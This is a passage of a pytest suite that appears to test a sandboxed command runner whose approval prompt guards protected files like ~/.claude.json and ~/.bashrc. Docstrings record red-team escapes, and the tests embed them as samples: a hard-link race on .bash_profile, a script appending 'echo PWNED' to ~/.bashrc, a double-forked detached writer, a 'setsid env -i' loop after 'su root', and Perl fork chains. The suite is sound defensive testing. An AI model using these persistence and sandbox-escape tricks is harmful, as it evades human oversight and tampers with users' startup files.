    loop = "cd ~ && touch .a && for i in 1 2 3 4; do (while :; do ln -f .a .bash_profile; sleep 0.005; done) & done"
    with running_tray(home):
        async with connect(home, headless=False) as client:
            started = await run(client, {"command": f"{loop} > /dev/null 2>&1; echo looping"})
            assert started["stdout"] == "looping\n", started
            await wait_for(lambda: len(moved_copies(target)) > 3)  # the guard moves them while it runs
    assert moved_copies(target), "the job ran"
    assert not target.exists(), "none left at its name for the next login"


# A script an earlier, unheld command wrote (its target's name built at run time): it appends to ~/.bashrc.
WRITES_BASHRC = (
    "import os\n"
    "with open(os.path.join(os.environ['HOME'], '.bash' + 'rc'), 'a') as f:\n"
    "    f.write('echo PWNED\\n')\n"
    "print('{}')\n"
)


@LINUX_BWRAP
@pytest.mark.anyio
@pytest.mark.parametrize(
    ("mention", "lifted"),
    [("", False), (". ~/.bashrc; ", False), ("grep -q alias ~/.bashrc; ", True), ("# ~/.bashrc stays\n", True)],
    ids=["writes only what it is held for", "sources it", "reads it", "names it in a comment"],
)
async def test_an_allow_makes_writable_exactly_the_protected_files_the_approval_window_named(
    home: Path, paths: AppPaths, as_user: Path, hub: Hub, mention: str, lifted: bool
) -> None:
    """A red team, 2026-12-05: the Allow of a command held for writing ~/.claude.json made every
    member its text named writable (a sourced ~/.bashrc too, which the hold had not counted), and
    the window did not say which; a script it ran then wrote ~/.bashrc."""
    project = as_user / "project"
    project.mkdir()
    (project / "fmt.py").write_text(WRITES_BASHRC)
    (as_user / ".claude.json").write_text("{}")
    shown: list[HeldCommand] = []

    async def allow_it() -> None:
        shown.append(await allow_when_held(hub))

    async with serving(home, bound=True) as client, anyio.create_task_group() as group:
        group.start_soon(allow_it)
        result = await run(client, {"command": f"{mention}python3 fmt.py > ~/.claude.json", "cwd": str(project)})
    [held] = shown
    said = held.to_window()["reasons"]
    names = f"~/.claude.json{', ~/.bashrc' if lifted else ''}"
    assert f"Once allowed, it can change {names} (" in said, said
    # The approval prompt says it too (a red team, 2026-12-05: only the log window and the CLI did).
    prompt_lines = WaitingCommand.from_json(for_window(held, paths).to_json()).lines()
    assert prompt_lines[-1] == f"Once allowed, it can change {names}", prompt_lines
    assert ("PWNED" in (as_user / ".bashrc").read_text()) is lifted, result
    if not lifted:
        assert "Read-only file system" in result["stderr"], result


# An allowed command's script that leaves a process behind, which rewrites ~/.claude.json later.
WRITES_LATER = (
    "import os, sys, time\n"
    "print('{}', flush=True)\n"
    "if os.fork() == 0:\n"
    "    os.setsid()\n"
    "    if os.fork() == 0:\n"
    "        for fd in (0, 1, 2):\n"
    "            os.close(fd)\n"
    "        time.sleep(1.5)\n"
    "        open(os.path.join(os.environ['HOME'], '.claude.json'), 'w').write('{\"late\": 1}')\n"
    "    os._exit(0)\n"
)


@LINUX_BWRAP
@pytest.mark.anyio
async def test_what_an_allowed_command_leaves_running_ends_with_it_and_keeps_no_right_to_protected_files(
    home: Path, paths: AppPaths, as_user: Path, hub: Hub
) -> None:
    """A red team, 2026-12-05: a job an allowed command left rewrote ~/.claude.json after the call
    returned, the container the person let out living on for it."""
    from app.core.execution.run_result import LEFTOVERS_ENDED_NOTE

    project = as_user / "project"
    project.mkdir()
    (project / "late.py").write_text(WRITES_LATER)
    (as_user / ".claude.json").write_text("{}")
    async with serving(home, bound=True) as client, anyio.create_task_group() as group:
        group.start_soon(allow_when_held, hub)
        result = await run(client, {"command": "python3 late.py > ~/.claude.json", "cwd": str(project)})
    await anyio.sleep(3)
    assert result["exitCode"] == 0 and LEFTOVERS_ENDED_NOTE in (result["note"] or ""), result
    assert (as_user / ".claude.json").read_text() == "{}\n"


def loop_lines(path: Path) -> int:
    return path.read_text().count("\n") if path.exists() else 0


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("su") is None, reason="`su root` without a password: root's")
@pytest.mark.skipif(not sys.platform.startswith("linux") or shutil.which("perl") is None, reason="the Perl reaper")
@pytest.mark.anyio
@pytest.mark.parametrize("ends_by", ["its end", "a pause"])
async def test_what_a_command_let_out_to_gain_privileges_leaves_running_ends_with_it_however_it_detached(
    home: Path, hub: Hub, tmp_path: Path, ends_by: str
) -> None:
    """A red team, 2026-12-05: a command allowed to run outside the container (`su`) left a loop that
    shed its group and its mark (`setsid env -i`): it ran on after the command, and after a pause."""
    loop = tmp_path / "loop"
    left = f"setsid env -i /bin/sh -c 'while :; do date >> {loop}; sleep 0.1; done' >/dev/null 2>&1 &"
    command = f"su root -c true; {left}" + (" sleep 30" if ends_by == "a pause" else "")
    async with serving(home, bound=True) as client, anyio.create_task_group() as group:
        group.start_soon(allow_when_held, hub)
        if ends_by == "a pause":
            group.start_soon(pause_when_looping, hub, loop)
        result = await run(client, {"command": command, "cwd": str(tmp_path)})
    said = "stopped because the user paused" if ends_by == "a pause" else None
    assert result["status"] == "finished" and (result["note"] or "").startswith(said or ""), result
    counted = loop_lines(loop)
    await anyio.sleep(1)
    assert loop_lines(loop) == counted, "the loop was ended"
    assert not [p for p in Path("/proc").glob("[0-9]*/cmdline") if str(loop).encode() in read_or_empty(p)]


# Six chains of processes that each fork and let the parent end, for 3 s, then wait 2 s and write:
# a kill by pid lags behind them (a red team, 2026-12-05, had them outlive a pause in 2 of 3 runs).
FORK_CHAINS = (
    "my ($n, $out) = @ARGV; my $t = time + 3;\n"
    "for (2..$n) { last unless fork; }\n"
    "while (time < $t) { my $p = fork; if ($p) { exit 0 } }\n"
    'sleep 2; open F, ">>$out"; print F "$$\\n"; close F;\n'
)


@pytest.mark.skipif(not sys.platform.startswith("linux") or shutil.which("perl") is None, reason="the Perl reaper")
def test_fork_chains_a_command_let_out_leaves_end_when_it_is_stopped(tmp_path: Path) -> None:
    """As the executor stops a let-out command (a pause, Stop, its time limit): SIGTERM to its group,
    then SIGKILL after the grace. The init lost the race to the chains (it listed thousands of ended
    orphans it had not reaped, then was killed mid-loop), three rounds to make the race likely."""
    from app.core.execution import reaper
    from app.core.execution.executor import STOP_GRACE_S, STRAGGLER_GRACE_S

    (tmp_path / "chains.pl").write_text(FORK_CHAINS)
    for round_ in range(3):
        survived = tmp_path / f"survived-{round_}"
        command = f"setsid env -i perl {tmp_path}/chains.pl 6 {survived} >/dev/null 2>&1 & sleep 30"
        argv = reaper.wrap(["/bin/bash", "-c", command], os.uname().machine, shutil.which("perl"))
        init = subprocess.Popen(argv, start_new_session=True)
        time.sleep(1.0)
        os.killpg(init.pid, signal.SIGTERM)
        try:
            init.wait(STOP_GRACE_S + STRAGGLER_GRACE_S)
        except subprocess.TimeoutExpired:
            os.killpg(init.pid, signal.SIGKILL)
            init.wait()
        time.sleep(4.5)
        assert not survived.exists(), (round_, survived.read_text())


async def pause_when_looping(hub: Hub, loop: Path) -> None:
    await wait_for(lambda: loop_lines(loop) > 2)
    hub.set_paused(True)


def read_or_empty(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""
